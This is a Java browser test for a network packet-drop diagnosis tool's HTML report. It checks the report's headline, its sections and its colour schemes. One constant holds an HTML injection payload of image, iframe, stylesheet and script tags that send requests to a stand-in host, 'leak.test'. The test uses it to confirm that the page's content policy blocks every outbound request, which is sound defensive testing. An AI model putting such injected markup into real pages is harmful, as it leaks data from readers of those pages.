package dev.dropwhy.e2e.page;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.dropwhy.agent.demo.RecordedDemo;
import dev.dropwhy.agent.report.LocalReport;
import dev.dropwhy.api.DropInvestigationSpec;
import dev.dropwhy.diagnosis.Diagnosis;
import dev.dropwhy.diagnosis.observation.Observation;
import dev.dropwhy.report.ReportFormat;
import dev.dropwhy.report.text.Style;
import java.awt.image.BufferedImage;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import java.util.stream.IntStream;
import javax.imageio.ImageIO;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The page of a real, recorded diagnosis in headless Chromium. */
class PageInBrowserTest {

    private static final String HEADLINE =
            "eth0 dropped 8 packets: all are LLDP frames from 'demo-switch' (00:00:5e:00:53:07) port Gi1/0/7 every 1 s;"
                    + " harmless.";

    /** What an attacker would add, if text were ever not escaped. */
    private static final String INJECTED = "<img src=\"http://leak.test/pixel\"><iframe src=\"http://leak.test/frame\">"
            + "</iframe><link rel=\"stylesheet\" href=\"http://leak.test/sheet\">"
            + "<script>document.title = 'taken'; fetch('http://leak.test/script')</script>";

    @Test
    void itShowsTheHeadlineAndEverySection(@TempDir Path folder) throws IOException, InterruptedException {
        try (CountingProxy proxy = CountingProxy.start()) {
            String dom = browser(folder, proxy).dom(store(folder, page()));
            assertThat(dom).contains("<h1>" + HEADLINE + "</h1>", "<title>dropwhy: recorded</title>");
            assertThat(dom)
                    .contains("<h2>Balance</h2>", "<h2>Verdicts, worst first</h2>", "<h2>Speakers</h2>")
                    .contains("<td>Gi1/0/7</td>", "apt-get install lldpd");
        }
    }

    @Test
    void noRequestLeavesItNotEvenWhenMarkupWasInjected(@TempDir Path folder) throws IOException, InterruptedException {
        try (CountingProxy proxy = CountingProxy.start()) {
            Browser browser = browser(folder, proxy);
            browser.dom(store(folder, "<!DOCTYPE html><html><body>" + INJECTED + "</body></html>"));
            assertThat(proxy.requestsFor("leak.test"))
                    .as("a page without the policy, to see that the proxy would notice")
                    .isNotEmpty();
        }
        try (CountingProxy proxy = CountingProxy.start()) {
            Browser browser = browser(folder, proxy);
            browser.dom(store(folder, page()));
            String dom = browser.dom(store(folder, page().replace("<main>", "<main>" + INJECTED)));
            assertThat(dom).contains("<title>dropwhy: recorded</title>", "leak.test/pixel");
            assertThat(proxy.requestsFor("leak.test")).isEmpty();
        }
    }

    @Test
    void theTimelineIsDrawnOnLightAndOnDarkPaper(@TempDir Path folder) throws IOException, InterruptedException {
        try (CountingProxy proxy = CountingProxy.start()) {
            Browser browser = browser(folder, proxy);
            Path page = store(folder, page());
            BufferedImage light = picture(browser, folder, page);
            BufferedImage dark = picture(browser, folder, page, "--blink-settings=preferredColorScheme=0");
            assertThat(light.getRGB(2, 2)).isEqualTo(0xffffffff);
            assertThat(dark.getRGB(2, 2)).isEqualTo(0xff14171c);
            assertThat(pixels(light, 0xff17683a)).as("explained drops, light").isGreaterThan(5_000);
            assertThat(pixels(dark, 0xff6cc795)).as("explained drops, dark").isGreaterThan(5_000);
        }
    }

    private static BufferedImage picture(Browser browser, Path folder, Path page, String... options)
            throws IOException, InterruptedException {
        Path picture = Files.createTempFile(folder, "page", ".png");
        browser.screenshot(page, picture, 900, 1000, options);
        return ImageIO.read(picture.toFile());
    }

    private static long pixels(BufferedImage picture, int colour) {
        int[] all = picture.getRGB(0, 0, picture.getWidth(), picture.getHeight(), null, 0, picture.getWidth());
        return IntStream.of(all).filter(pixel -> pixel == colour).count();
    }

    private static Browser browser(Path folder, CountingProxy proxy) {
        Optional<Path> program = Browser.find();
        assumeTrue(program.isPresent(), Browser.MISSING);
        return new Browser(program.orElseThrow(), folder, proxy.port());
    }

    private static Path store(Path folder, String page) throws IOException {
        return Files.writeString(Files.createTempFile(folder, "report", ".html"), page);
    }

    private static String page() {
        Observation observation = RecordedDemo.read();
        DropInvestigationSpec spec = new DropInvestigationSpec(null, null, null, null, null, List.of(), null, null);
        return ReportFormat.html.write(
                LocalReport.of(
                        "recorded", spec, observation, Diagnosis.standard().diagnose(observation, List.of())),
                new Style(false, 100));
    }
}
